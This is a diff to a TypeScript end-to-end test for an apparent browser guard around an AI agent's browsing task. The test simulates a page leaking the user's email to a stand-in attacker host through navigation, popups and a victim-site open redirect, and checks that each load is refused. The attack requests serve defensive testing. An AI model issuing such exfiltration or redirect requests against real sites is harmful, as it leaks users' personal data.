@@ -43,7 +43,6 @@ const decisions = async (): Promise<string[]> =>
     )) as any[]
   ).map((d) => `${d.tool}:${d.verdict}${process.env.DEBUG_LOADS ? ` ${d.reason}` : ''}`);
 const canaryGot = (path: string) => h.servers.canary.requests.some((r) => r.url.startsWith(path));
-const step = (what: string) => process.env.DEBUG_LOADS && console.log(new Date().toISOString().slice(11, 23), what);
 const median = (xs: number[]) => [...xs].sort((a, b) => a - b)[Math.floor(xs.length / 2)]!;
 /** Time for the page's own script to load a page of its site and for it to finish loading. */
 async function pageMadeLoad(page: Page, url: string): Promise<number> {
@@ -93,29 +92,23 @@ it("while a task works in the tab, the page's own loads are judged and the user'
   // Without a task: the cost baseline.
   const before = { load: [] as number[], link: [] as number[] };
   for (let i = 0; i < 5; i++) {
-    step(`before ${i}`);
     before.load.push(await pageMadeLoad(h.page, `${notes}?n=${i}`));
-    step('link');
     before.link.push(await newTabLink(h.page, `${o.ATTACKER}/w/survey.html?before=${i}`, `/w/survey.html?before=${i}`));
   }
 
-  step('task waiting on the model');
   const gate = await taskWaitingOnModel();
-  step('gate reached');
   await h.page.bringToFront();
 
   // The page's script carries the notes' data to another site: stopped before the request leaves.
   await h.page.evaluate((u) => {
     location.href = u;
   }, `${o.ATTACKER}/pagemade?e=${EMAIL}`);
-  step("await until('the refusal in");
   await until('the refusal in the decision log', async () =>
     (await decisions()).some((d) => d.startsWith('page load:deny')),
   );
   // A new window it opens with that data (noopener: the popup cannot reach back): stopped too.
   await h.page.goto(notes, { waitUntil: 'load' });
   await h.page.evaluate((u) => void window.open(u, '_blank', 'noopener'), `${o.ATTACKER}/popup?e=${EMAIL}`);
-  step("await until('the second refusa");
   await until(
     'the second refusal',
     async () => (await decisions()).filter((d) => d.startsWith('page load:deny')).length >= 2,
@@ -129,7 +122,6 @@ it("while a task works in the tab, the page's own loads are judged and the user'
     during.link.push(await newTabLink(h.page, `${o.ATTACKER}/w/survey.html?during=${i}`, `/w/survey.html?during=${i}`));
   }
 
-  step('// The user types');
   // The user types an address with the same data into this tab, and into a new tab: both go, unjudged.
   await h.page.goto(`${o.ATTACKER}/typed?e=${EMAIL}`);
   // A new tab the user opens (the new-tab page, where they type an address) is not touched either.
@@ -149,7 +141,6 @@ it("while a task works in the tab, the page's own loads are judged and the user'
   expect(canaryGot('/pagemade') || canaryGot('/popup')).toBe(false);
   expect((await decisions()).filter((d) => d.startsWith('page load:deny'))).toHaveLength(2);
 
-  step('gate.release();');
   gate.release();
   await until('the task to end', async () => (await sessionView(h.ext, h.tabId)).status !== 'running');
   const ms = (xs: number[]) => `${Math.round(median(xs))} ms`;
@@ -220,7 +211,6 @@ it('a popup the guard judged stays guarded: its opener cannot load it again with
   // or refused (the tab stays on Chrome's error page). Before, a tab once judged was out of the rules for good.
   const o = ctxOf(h);
   await h.page.goto(o.page(o.VICTIM, 'notes.html'), { waitUntil: 'load' });
-  const gate = await taskWaitingOnModel();
   const refusals = async () => (await decisions()).filter((d) => d.startsWith('page load:deny')).length;
   // Opens a window kept under `name`, or loads the one already kept there again.
   const load = (name: string, url: string) =>
@@ -233,6 +223,11 @@ it('a popup the guard judged stays guarded: its opener cannot load it again with
       name,
       url,
     );
+  // A window the page opened before the task began (such tabs were left out of the rules as the user's).
+  await load('early', `${o.ATTACKER}/w/survey.html?early=1`);
+  await until('the early popup to load', () => canaryGot('/w/survey.html?early=1'));
+  await h.page.bringToFront();
+  const gate = await taskWaitingOnModel();
   const before = await refusals();
   await load('harmless', `${o.ATTACKER}/w/survey.html?pop=1`);
   await until('the harmless popup to load', () => canaryGot('/w/survey.html?pop=1'));
@@ -240,8 +235,12 @@ it('a popup the guard judged stays guarded: its opener cannot load it again with
   await until('the first refusal', async () => (await refusals()) === before + 1);
   await load('harmless', `${o.ATTACKER}/again?e=${EMAIL}`);
   await load('refused', `${o.ATTACKER}/again2?e=${EMAIL}`);
-  await until('two more refusals', async () => (await refusals()) === before + 3);
-  expect(['/first', '/again', '/again2'].filter(canaryGot)).toEqual([]);
+  await load('early', `${o.ATTACKER}/again3?e=${EMAIL}`);
+  await until('three more refusals', async () => (await refusals()) === before + 4);
+  // The site's own open redirect, opened in a new window: the hop to the attacker is judged too.
+  await load('redirect', `${o.VICTIM}/redirect?to=${encodeURIComponent(`${o.ATTACKER}/hop?e=${EMAIL}`)}`);
+  await until('the hop refused', async () => (await refusals()) === before + 5);
+  expect(['/first', '/again', '/again2', '/again3', '/hop'].filter(canaryGot)).toEqual([]);
   for (const p of await h.ext.browser.pages())
     if (p.url().includes(o.ATTACKER) || p.url().startsWith('chrome-error')) await p.close();
   await h.page.bringToFront();
